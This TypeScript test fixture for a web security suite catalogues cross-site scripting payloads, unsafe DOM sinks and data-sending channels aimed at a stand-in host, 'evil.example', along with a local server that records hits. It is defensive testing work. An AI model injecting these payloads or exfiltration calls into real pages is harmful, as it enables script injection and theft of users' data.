import { startServer } from "../../support/loopback-server.ts";

/** Another site. Its files NAME.js run `hacked.NAME = 1`. */
export const EVIL = "https://evil.example";

/** Attacks by name. An attack has worked if `hacked.NAME` is set, or if Evil gets a request for `/NAME`. */
type Trials = Readonly<Record<string, string>>;

/** Markup that a mistake in escaping would let into a page. */
export const MARKUP: Trials = {
	inline: "<script>hacked.inline=1</script>",
	otherNonce: '<script nonce="abc">hacked.otherNonce=1</script>',
	remote: `<script src="${EVIL}/remote.js"></script>`,
	module: `<script type="module" src="${EVIL}/module.js"></script>`,
	importMap: `<script type="importmap">{"imports":{"x":"${EVIL}/importMap.js"}}</script><script type="module">import "x"</script>`,
	dataScript: '<script src="data:text/javascript,hacked.dataScript=1"></script>',
	lateInline: '<script type="late">hacked.lateInline=1</script>',
	handler: '<img src="x:" onerror="hacked.handler=1">',
	focus: '<input autofocus onfocus="hacked.focus=1">',
	toggle: '<details open ontoggle="hacked.toggle=1">x</details>',
	animationEvent:
		'<p style="animation:x 1ms" onanimationstart="hacked.animationEvent=1">x</p><style>@keyframes x{}</style>',
	svgLoad: '<svg onload="hacked.svgLoad=1"></svg>',
	svgScript: "<svg><script>hacked.svgScript=1</script></svg>",
	svgSource: `<svg><script href="${EVIL}/svgSource.js"></script></svg>`,
	svgBegin: '<svg><animate onbegin="hacked.svgBegin=1" attributeName="x" dur="1s"></animate></svg>',
	svgForeign: '<svg><foreignObject><img src="x:" onerror="hacked.svgForeign=1"></foreignObject></svg>',
	mathml: '<math><mtext><img src="x:" onerror="hacked.mathml=1"></mtext></math>',
	frameSource: '<iframe srcdoc="<script>parent.hacked.frameSource=1</script>"></iframe>',
	frameScript: '<iframe src="javascript:parent.hacked.frameScript=1"></iframe>',
	frameData: `<iframe src="data:text/html,<img src=${EVIL}/frameData>"></iframe>`,
	frame: `<iframe src="${EVIL}/frame"></iframe>`,
	object: `<object data="${EVIL}/object.svg" type="image/svg+xml"></object>`,
	objectData: `<object data="data:text/html,<img src=${EVIL}/objectData>"></object>`,
	embed: `<embed src="${EVIL}/embed.svg" type="image/svg+xml">`,
	image: `<img src="${EVIL}/image">`,
	imageSet: `<img srcset="${EVIL}/imageSet 1x">`,
	imageInput: `<input type="image" src="${EVIL}/imageInput">`,
	background: `<table background="${EVIL}/background"><tr><td>x</table>`,
	svgImage: `<svg><image href="${EVIL}/svgImage" width="9" height="9"></image></svg>`,
	svgFilter: `<svg width="9" height="9"><filter id="f"><feImage href="${EVIL}/svgFilter"></feImage></filter><rect filter="url(#f)" width="9" height="9"></rect></svg>`,
	video: `<video src="${EVIL}/video" preload="auto"></video>`,
	poster: `<video poster="${EVIL}/poster"></video>`,
	audio: `<audio src="${EVIL}/audio" preload="auto"></audio>`,
	styleSheet: `<link rel="stylesheet" href="${EVIL}/styleSheet.css">`,
	styleElement: `<style>aside{background:url(${EVIL}/styleElement)}</style>`,
	styleImport: `<style>@import url(${EVIL}/styleImport.css);</style>`,
	styleAttribute: `<p style="background:url(${EVIL}/styleAttribute)">x</p>`,
	styleFont: `<style>@font-face{font-family:e;src:url(${EVIL}/styleFont)}</style><p style="font-family:e">x</p>`,
	styleSelector: `<style>input[value^="a"]{background:url(${EVIL}/styleSelector)}</style><input value="a">`,
	preload: `<link rel="preload" as="image" href="${EVIL}/preload">`,
	preloadScript: `<link rel="preload" as="script" href="${EVIL}/preloadScript">`,
	modulePreload: `<link rel="modulepreload" href="${EVIL}/modulePreload">`,
	lateLink: `<link rel="late" href="${EVIL}/lateLink">`,
	prefetch: `<link rel="prefetch" href="${EVIL}/prefetch">`,
};

/** Markup that acts when it is pressed or sent; in the page it has the attribute `data-bait`. */
export const BAITS: Trials = {
	link: '<a data-bait href="javascript:hacked.link=1">x</a>',
	entities: '<a data-bait href="&#106;avascript&colon;hacked.entities=1">x</a>',
	svgLink: '<svg><a href="javascript:hacked.svgLink=1"><text data-bait y="20">x</text></a></svg>',
	formAction: '<form action="javascript:hacked.formAction=1"><button data-bait>x</button></form>',
	form: `<form action="${EVIL}/form" method="post"><button data-bait>x</button></form>`,
	formGet: `<form action="${EVIL}/formGet"><button data-bait>x</button></form>`,
	buttonAction: `<form><button data-bait formaction="${EVIL}/buttonAction">x</button></form>`,
	ping: `<a data-bait href="#x" ping="${EVIL}/ping">x</a>`,
};

/** Code that presses each of the baits. */
export const PRESSES = Object.keys(BAITS).map(
	(_, n) =>
		`document.querySelectorAll("[data-bait]")[${n}].dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))`,
);

/** Milliseconds between two presses that nothing stops, as a form's navigation cancels that of the form before until its request is sent. */
export const PRESS_MS = 1_000;

/** Code of a page that puts an attacker's text where markup, code or a script's address is expected. */
export const SINKS: Trials = {
	innerHTML: "host.innerHTML = img('innerHTML')",
	outerHTML: "host.appendChild(document.createElement('p')).outerHTML = img('outerHTML')",
	adjacent: "host.insertAdjacentHTML('beforeend', img('adjacent'))",
	fragment: "host.append(document.createRange().createContextualFragment('<script>hacked.fragment=1<\\/script>'))",
	parser:
		"host.append(document.adoptNode(new DOMParser().parseFromString(img('parser'), 'text/html').body.firstChild))",
	template: "{ const t = document.createElement('template'); t.innerHTML = img('template'); host.append(t.content) }",
	shadow: "host.appendChild(document.createElement('div')).attachShadow({ mode: 'open' }).innerHTML = img('shadow')",
	unsafe: "host.setHTMLUnsafe ? host.setHTMLUnsafe(img('unsafe')) : (hacked.unsafe = control)",
	otherDocument:
		"{ const d = document.implementation.createHTMLDocument(''); d.body.innerHTML = img('otherDocument'); host.append(document.adoptNode(d.body.firstChild)) }",
	frameSource:
		"host.appendChild(document.createElement('iframe')).setAttribute('srcdoc', '<script>parent.hacked.frameSource=1<\\/script>')",
	frameScript: "host.appendChild(document.createElement('iframe')).src = 'javascript:parent.hacked.frameScript=1'",
	frameDocument:
		"host.appendChild(document.createElement('iframe')).contentDocument.write('<script>parent.hacked.frameDocument=1<\\/script>')",
	frameEval: "host.appendChild(document.createElement('iframe')).contentWindow.eval('parent.hacked.frameEval=1')",
	attribute: "host.setAttribute('onclick', 'hacked.attribute=1'); host.click()",
	attributeNode:
		"{ const a = document.createAttribute('onclick'); a.value = 'hacked.attributeNode=1'; host.setAttributeNode(a); host.click() }",
	scriptText: "script((s) => (s.text = 'hacked.scriptText=1'))",
	scriptContent: "script((s) => (s.textContent = 'hacked.scriptContent=1'))",
	scriptChild: "script((s) => s.append('hacked.scriptChild=1'))",
	scriptSource: `script((s) => (s.src = '${EVIL}/scriptSource.js'))`,
	scriptAttribute: `script((s) => s.setAttribute('src', '${EVIL}/scriptAttribute.js'))`,
	scriptData: "script((s) => (s.src = 'data:text/javascript,hacked.scriptData=1'))",
	scriptBlob: "script((s) => (s.src = URL.createObjectURL(new Blob(['hacked.scriptBlob=1']))))",
	svgScript:
		"{ const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.append('hacked.svgScript=1'); host.append(s) }",
	late: "{ const s = document.createElement('script'); s.type = 'late'; s.append('hacked.late=1'); host.append(s); script((c) => (c.text = s.text)) }",
	evaluate: "(0, eval)('hacked.evaluate=1')",
	constructor: "new Function('hacked.constructor=1')()",
	generator: "(function*(){}).constructor('hacked.generator=1')().next()",
	timeout: "setTimeout('hacked.timeout=1')",
	interval: "setInterval('hacked.interval=1')",
	address: "location.href = 'javascript:void(hacked.address=1)'",
	openScript: "open('javascript:opener.hacked.openScript=1')",
	worker: "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => (hacked.worker = 1)",
	workerData: "new Worker('data:text/javascript,postMessage(1)').onmessage = () => (hacked.workerData = 1)",
	command:
		"host.contentEditable = 'true', getSelection().selectAllChildren(host), document.execCommand('insertHTML', false, img('command'))",
	newPolicy:
		"{ const p = self.trustedTypes?.createPolicy('other', { createHTML: (text) => text }); host.innerHTML = p ? p.createHTML(img('newPolicy')) : img('newPolicy') }",
};

/** Ways in which running code can send data. */
export const CHANNELS: Trials = {
	fetch: `fetch('${EVIL}/fetch', { mode: 'no-cors' })`,
	request: `{ const r = new XMLHttpRequest(); r.open('GET', '${EVIL}/request'); r.send() }`,
	beacon: `navigator.sendBeacon('${EVIL}/beacon', 'x')`,
	eventSource: `new EventSource('${EVIL}/eventSource')`,
	socket: `new WebSocket('${EVIL}/socket'.replace('http', 'ws'))`,
	image: `new Image().src = '${EVIL}/image'`,
	audio: `new Audio('${EVIL}/audio').load()`,
	font: `new FontFace('e', "url(${EVIL}/font)").load()`,
	style: `host.style.backgroundImage = "url(${EVIL}/style)"`,
	sheet: `{ const s = new CSSStyleSheet(); s.insertRule('#host { background: url(${EVIL}/sheet) }'); document.adoptedStyleSheets = [s] }`,
	form: `{ const f = document.createElement('form'); f.action = '${EVIL}/form'; f.method = 'post'; host.append(f); f.submit() }`,
	importFrom: `import('${EVIL}/importFrom.js')`,
	importData: "import('data:text/javascript,hacked.importData=1')",
	worklet: `new AudioContext().audioWorklet.addModule('${EVIL}/worklet')`,
	frame: `host.appendChild(document.createElement('iframe')).src = '${EVIL}/frame'`,
};

/** Starts Evil, which adds the names of requests to `reached`, and has these pages by name. */
export const startEvil = (reached: Set<string>, pages: ReadonlyMap<string, string> = new Map()) =>
	startServer((request) => {
		const [name = "", extension] = new URL(request.url).pathname.slice(1).split(".");
		const page = pages.get(name);
		if (page) return new Response(page, { headers: { "content-type": "text/html" } });
		const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
		if (extension === "js") return new Response(`hacked.${name} = 1`, { headers });
		reached.add(name);
		return new Response(null, { status: 204, headers });
	});

/** Code that defines `next`, which runs the statements, each in a task of its own, and `last` ms after them calls `done`. */
export const defineNext = (code: readonly string[], pause: number, last: number) => `
	const img = (name) => '<img src="x:" onerror="hacked.' + name + '=1">';
	const script = (change) => { const s = document.createElement("script"); change(s); document.body.append(s); };
	const tasks = [${code.map((statements) => `(host) => { ${statements} }`).join()}];
	const next = () => {
		const task = tasks.shift();
		if (!task) return setTimeout(done, ${last});
		setTimeout(next, ${pause});
		const host = document.body.appendChild(document.createElement("div"));
		host.id = "host";
		task(host);
	};`;
